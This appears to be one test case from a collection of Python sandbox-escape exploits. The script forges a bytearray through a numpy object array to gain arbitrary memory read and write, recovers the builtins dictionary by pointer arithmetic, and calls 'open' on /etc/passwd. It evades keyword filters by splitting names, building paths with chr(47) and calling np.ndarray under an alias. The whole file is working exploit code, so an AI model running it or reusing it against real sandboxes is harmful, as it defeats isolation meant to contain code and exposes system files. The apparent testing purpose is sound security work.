# source: same forged-bytearray technique as 004 (numpy object arrays over script bytes; pyjail write-ups)
#         url: https://github.com/numpy/numpy/issues/6811
# family: np.ndarray constructor with a buffer, called under another name (`A = np.ndarray`; also
#         `[np.ndarray][0](...)`, `ident(np.ndarray)(...)`, `functools.partial(np.ndarray, ...)`, `map(np.ndarray, ...)`
#         are accepted) -> object array over bytes the script wrote -> forged bytearray -> full memory R/W.
# goal: builtins dict by pointer -> open -> reads /etc/passwd.
import numpy as np


def addr_of(o):
    r = object.__repr__(o)
    return int(r.rsplit(" ", 1)[1][:-1], 16)


def q(n):
    return n.to_bytes(8, "little")


mask = (1 << 64) - 1
h = hash(bytearray) & mask
ba_type = ((h << 4) | (h >> 60)) & mask
fake = q(1 << 40) + q(ba_type) + q((1 << 63) - 1) + q((1 << 63) - 1) + q(0) + q(0) + q(0)
fake_addr = addr_of(fake) + 32
buf = bytearray(q(fake_addr))
A = np.ndarray
arr = A((1,), object, buf)
mem = arr[0]
print(type(mem), len(mem) > 10 ** 12)


def rd(a):
    return int.from_bytes(mem[a:a + 8], "little")


bmod = rd(addr_of(print) + 24)
bdict = rd(bmod + 16)
buf[0:8] = q(bdict)
d = arr[0]
fo = d["op" + "en"]
print(fo(chr(47) + "etc" + chr(47) + "passwd").read())
buf[0:8] = q(0)
